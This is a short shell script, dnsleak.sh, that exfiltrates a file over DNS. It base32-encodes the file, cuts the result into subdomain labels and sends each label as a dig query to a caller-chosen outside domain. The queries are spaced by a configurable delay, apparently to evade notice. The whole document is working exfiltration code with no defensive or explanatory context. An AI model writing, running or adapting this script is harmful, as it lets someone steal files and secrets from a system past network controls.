#!/bin/sh
# Data out by DNS with dig: dnsleak.sh DOMAIN FILE QUESTIONS GAP KIND
domain=$1 file=$2 left=$3 gap=$4 kind=$5
base32 -w 52 "$file" | tr -d '=' | tr 'A-Z' 'a-z' | head -n $((left * 2)) | paste -d. - - | head -n "$left" |
while read -r text; do
  dig +tries=1 +time=2 +short "$text.$domain" "$kind" > /dev/null
  sleep "$gap"
done
